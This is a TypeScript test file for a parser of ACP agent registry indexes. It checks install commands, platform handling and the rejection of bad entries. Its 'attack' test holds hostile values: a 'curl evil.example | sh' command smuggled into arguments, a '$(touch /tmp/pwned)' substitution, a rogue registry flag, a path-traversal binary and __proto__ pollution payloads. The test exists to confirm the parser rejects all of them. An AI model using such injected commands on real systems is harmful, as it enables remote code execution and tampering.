import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { loadAcpAgents } from '../config/acp-agent-config';
import { ConfigIssue } from '../config/config-issue';
import { configLayers } from '../config/config-layers';
import { AcpRegistryIndexError, MAX_REGISTRY_AGENTS, parseAcpRegistry, registryPlatformOf } from './acp-registry';

const snapshotFile = join(dirname(require.resolve('@qodeassist/agents/package.json')), 'acp-registry.json');

/** An index of the registry's documented format around these entries. */
function index(...agents: unknown[]): string {
    return JSON.stringify({ version: '1.0.0', agents });
}

const npxAgent = (id: string, extra: Record<string, unknown> = {}) => ({
    id, name: `Agent ${id}`, version: '1.2.3', description: 'an agent', repository: `https://example.com/${id}`, authors: ['A'], license: 'MIT',
    distribution: { npx: { package: `@example/${id}@1.2.3`, args: ['--acp'] } }, ...extra
});

describe('acp-registry', () => {
    it('reads the bundled snapshot whole: every entry offered, each with its install method and a file the definition schema accepts', () => {
        const text = readFileSync(snapshotFile, 'utf8');
        const snapshot = JSON.parse(text) as { version: string; snapshot: string; $comment: string; agents: unknown[] };
        assert.equal(snapshot.version, '1.0.0');
        assert.match(snapshot.snapshot, /^\d{4}-\d{2}-\d{2}$/);
        assert.match(snapshot.$comment, /not a copy/);
        const reading = parseAcpRegistry(text, { platform: 'linux-x86_64' });
        assert.deepEqual(reading.problems, []);
        assert.equal(reading.offers.length, snapshot.agents.length);
        for (const id of ['claude-code', 'codex', 'gemini-cli', 'goose', 'opencode', 'qwen-code']) {
            const offer = reading.offers.find(candidate => candidate.id === id);
            assert.ok(offer?.fileText, `${id} is offered`);
            assert.ok(offer.installCommand && offer.installNote, `${id} says how to install it`);
        }
        assert.equal(reading.offers.find(offer => offer.id === 'goose')?.distribution, 'binary');
        // Each file, written as a user's acp/<id>.toml, loads without an issue.
        const user = mkdtempSync(join(tmpdir(), 'qodeassist-registry-snapshot-'));
        try {
            mkdirSync(join(user, 'acp'));
            reading.offers.forEach(offer => writeFileSync(join(user, 'acp', `${offer.id}.toml`), offer.fileText!));
            const issues: ConfigIssue[] = [];
            const agents = loadAcpAgents(configLayers({ bundledAgents: dirname(snapshotFile), bundledProviders: dirname(snapshotFile), user }).filter(layer => layer.name === 'user'), issues);
            assert.deepEqual(issues, []);
            assert.deepEqual([...agents.keys()].sort(), reading.offers.map(offer => offer.id).sort());
        } finally {
            rmSync(user, { recursive: true, force: true });
        }
        assert.equal(reading.offers.find(offer => offer.id === 'gemini-cli')?.installCommand, 'npx -y @google/gemini-cli --acp');
    });

    it('turns npx, uvx and binary entries into command lines without a shell', () => {
        const reading = parseAcpRegistry(index(
            npxAgent('alpha'),
            { id: 'beta', name: 'Beta', distribution: { uvx: { package: 'beta-agent[acp]==4.5.6', args: ['acp'] } } },
            { id: 'gamma', name: 'Gamma', distribution: { binary: { 'linux-x86_64': { archive: 'https://example.com/gamma.tar.gz', cmd: './bin/gamma', args: ['serve'] } } } }
        ), { platform: 'linux-x86_64' });
        assert.deepEqual(reading.offers.map(offer => [offer.id, offer.distribution, offer.installCommand]), [
            ['alpha', 'npx', 'npx -y @example/alpha@1.2.3 --acp'],
            ['beta', 'uvx', 'uvx "beta-agent[acp]==4.5.6" acp'],
            ['gamma', 'binary', 'https://example.com/gamma.tar.gz']
        ]);
        assert.match(reading.offers[0].fileText!, /^command = "npx"$/m);
        assert.match(reading.offers[0].fileText!, /^args = \[ "-y", "@example\/alpha@1\.2\.3", "--acp" \]$/m);
        assert.match(reading.offers[2].fileText!, /^command = "gamma"$/m);
    });

    it('lists a binary-only entry without a build for this platform as not offered, with the builds it has', () => {
        const reading = parseAcpRegistry(index({ id: 'mac-only', name: 'Mac', distribution: { binary: { 'darwin-aarch64': { archive: 'https://example.com/a.zip', cmd: './a' } } } }), { platform: 'linux-x86_64' });
        assert.equal(reading.offers[0].fileText, undefined);
        assert.match(reading.offers[0].notOffered ?? '', /no build of it for linux-x86_64 \(it has: darwin-aarch64\)/);
    });

    it('lists an entry that sets environment values as not offered: a file holds names of variables, never values', () => {
        const reading = parseAcpRegistry(index(npxAgent('envy', { distribution: { npx: { package: 'envy', env: { ENVY_MODE: 'strict' } } } })));
        assert.equal(reading.offers[0].fileText, undefined);
        assert.match(reading.offers[0].notOffered ?? '', /sets environment values \(ENVY_MODE\)/);
    });

    it('refuses a whole index that is oversized, not JSON, no index, or of another format version, with a typed error', () => {
        const refused = (body: string, options = {}) => {
            try {
                parseAcpRegistry(body, options);
            } catch (error) {
                assert.ok(error instanceof AcpRegistryIndexError);
                return error.code;
            }
            assert.fail('accepted');
        };
        assert.equal(refused(index(npxAgent('big', { description: 'x'.repeat(900) })), { maxBytes: 500 }), 'too-large');
        assert.equal(refused('<html>'), 'not-json');
        assert.equal(refused(JSON.stringify({ version: '1.0.0', agents: 'all' })), 'not-an-index');
        assert.equal(refused(JSON.stringify({ version: '2.0.0', agents: [] })), 'unsupported-version');
    });

    it('attack: a hostile index gets one typed problem per bad entry, keeps the good ones, and pollutes no prototype', () => {
        const hostile = `{"version":"1.0.0","__proto__":{"polluted":"top"},"agents":[
            ${JSON.stringify(npxAgent('good'))},
            {"id":"wrong-types","name":42,"distribution":{"npx":{"package":"x"}}},
            ${JSON.stringify(npxAgent('shell', { distribution: { npx: { package: 'ok', args: ['--acp; curl evil.example | sh'] } } }))},
            ${JSON.stringify(npxAgent('subshell', { distribution: { npx: { package: '$(touch /tmp/pwned)' } } }))},
            ${JSON.stringify(npxAgent('dash', { distribution: { npx: { package: '--registry=https://evil.example' } } }))},
            ${JSON.stringify(npxAgent('tarball', { distribution: { npx: { package: 'agent.tgz' } } }))},
            ${JSON.stringify({ id: 'dotdot', name: 'D', distribution: { binary: { 'linux-x86_64': { archive: 'https://e.example/a.tgz', cmd: '../../bin/sh' } } } })},
            ${JSON.stringify(npxAgent('plain-http', { repository: 'http://example.com/agent' }))},
            ${JSON.stringify({ id: 'http-archive', name: 'H', distribution: { binary: { 'linux-x86_64': { archive: 'http://e.example/a.tgz', cmd: './a' } } } })},
            {"id":"proto","name":"P","__proto__":{"polluted":"entry"},"distribution":{"npx":{"package":"p","env":{"__proto__":{"polluted":"env"}}},"binary":{"__proto__":{"polluted":"bin"}}}},
            {"id":"line-break","name":"x\\ncommand = \\"sh\\"","distribution":{"npx":{"package":"lb"}}},
            ${JSON.stringify(npxAgent('good'))}
        ]}`;
        const reading = parseAcpRegistry(hostile, { platform: 'linux-x86_64' });
        assert.deepEqual(reading.offers.filter(offer => offer.fileText).map(offer => offer.id), ['good']);
        assert.deepEqual(reading.problems.map(problem => [problem.id, problem.code]), [
            ['wrong-types', 'invalid-entry'],
            ['shell', 'unsafe-command'],
            ['subshell', 'unsafe-command'],
            ['dash', 'unsafe-command'],
            ['tarball', 'unsafe-command'],
            ['dotdot', 'unsafe-command'],
            ['plain-http', 'insecure-url'],
            ['http-archive', 'insecure-url'],
            ['line-break', 'invalid-entry'],
            ['good', 'duplicate-id']
        ]);
        // The `__proto__` entry sets an "environment value" named __proto__: listed, never offered, nothing polluted.
        assert.match(reading.offers.find(offer => offer.id === 'proto')?.notOffered ?? '', /environment values/);
        assert.equal(({} as Record<string, unknown>).polluted, undefined);
        assert.equal(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'), false);
        for (const offer of reading.offers) {
            assert.ok(!/curl|pwned|evil|\.\.\//.test(offer.fileText ?? ''), offer.id);
        }
    });

    it('attack: reads at most MAX_REGISTRY_AGENTS entries and reports the rest as one problem, not one each', () => {
        const reading = parseAcpRegistry(JSON.stringify({ version: '1.0.0', agents: Array.from({ length: MAX_REGISTRY_AGENTS + 5_000 }, () => ({})) }));
        assert.equal(reading.problems.length, MAX_REGISTRY_AGENTS + 1);
        assert.equal(reading.problems[0].message, `5000 entries past the first ${MAX_REGISTRY_AGENTS} were not read`);
        assert.equal(reading.offers.length, 0);
    });

    it('names this machine\'s platform as the registry does', () => {
        assert.equal(registryPlatformOf('linux', 'x64'), 'linux-x86_64');
        assert.equal(registryPlatformOf('darwin', 'arm64'), 'darwin-aarch64');
        assert.equal(registryPlatformOf('win32', 'x64'), 'windows-x86_64');
        assert.equal(registryPlatformOf('aix', 'ppc64'), undefined);
    });
});
